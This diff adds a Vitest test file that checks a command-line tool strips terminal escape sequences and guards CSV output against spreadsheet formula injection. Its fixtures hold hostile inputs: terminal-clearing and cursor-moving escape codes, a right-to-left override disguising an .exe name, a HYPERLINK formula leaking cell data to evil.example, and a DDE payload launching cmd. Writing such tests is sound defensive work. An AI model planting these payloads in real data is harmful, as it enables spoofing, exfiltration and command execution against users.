@@ -1,0 +1,53 @@
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { run, startSandbox } from './harness';
+import type { SandboxProcess } from './harness';
+
+let sb: SandboxProcess;
+
+beforeAll(async () => {
+  sb = await startSandbox();
+});
+afterAll(async () => {
+  await sb?.stop();
+});
+
+// What a hostile or careless payload looks like: a receipt that retitles the terminal and clears it,
+// notes that move the cursor, a right-to-left override that reverses the text after it.
+const HOSTILE = {
+  receipt: '\x1b]0;pwned\x07\x1b[2Jrcpt',
+  notes: { memo: 'ok\x1b[1A\x1b[2Kfake line', dir: 'abc\u202Efdp.exe', bell: 'ding\x07\x07', c1: 'x\x9b31mred' },
+};
+
+describe('terminal safety', () => {
+  it('control and escape sequences in service data never reach the terminal in table output', async () => {
+    const created = await sb.api<{ id: string }>('POST', '/orders', { amount: 4200, currency: 'INR', ...HOSTILE });
+    expect(created.status).toBe(200);
+    for (const args of [
+      ['orders', 'list', '--receipt', HOSTILE.receipt, '-o', 'table', '--fields', 'id,receipt,notes.memo,notes.dir,notes.bell,notes.c1'],
+      ['orders', 'list', '-o', 'table'],
+    ]) {
+      const res = await run(args, { env: { ...sb.env, NO_COLOR: '1' } });
+      expect(res.code, res.stderr).toBe(0);
+      expect(res.stdout).toContain('rcpt');
+      expect(res.stdout).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/);
+    }
+  });
+
+  it('JSON output keeps the data exactly (escaped by JSON itself)', async () => {
+    const res = await run(['orders', 'list', '--receipt', HOSTILE.receipt, '-o', 'json'], { env: sb.env });
+    const [order] = JSON.parse(res.stdout) as Array<{ receipt: string; notes: Record<string, string> }>;
+    expect(order!.receipt).toBe(HOSTILE.receipt);
+    expect(order!.notes).toEqual(HOSTILE.notes);
+    expect(res.stdout).not.toContain('\x1b');
+  });
+
+  it('CSV cells that a spreadsheet would run are guarded, with real-looking payloads', async () => {
+    const formulas = { a: '=HYPERLINK("http://evil.example/?"&A1,"Refund status")', b: '+1-800-FAKE', c: '-2+3', d: '@SUM(1,2)', e: '=cmd|\' /C calc\'!A0' };
+    const created = await sb.api<{ id: string }>('POST', '/orders', { amount: 4300, currency: 'INR', receipt: 'csv-guard', notes: formulas });
+    expect(created.status).toBe(200);
+    const res = await run(['orders', 'list', '--receipt', 'csv-guard', '-o', 'csv', '--fields', 'id,notes.a,notes.b,notes.c,notes.d,notes.e'], { env: sb.env });
+    const { parse } = await import('csv-parse/sync');
+    const [row] = parse(res.stdout, { columns: true }) as Array<Record<string, string>>;
+    for (const [k, v] of Object.entries(formulas)) expect(row![`notes.${k}`]).toBe(`'${v}`);
+  });
+});
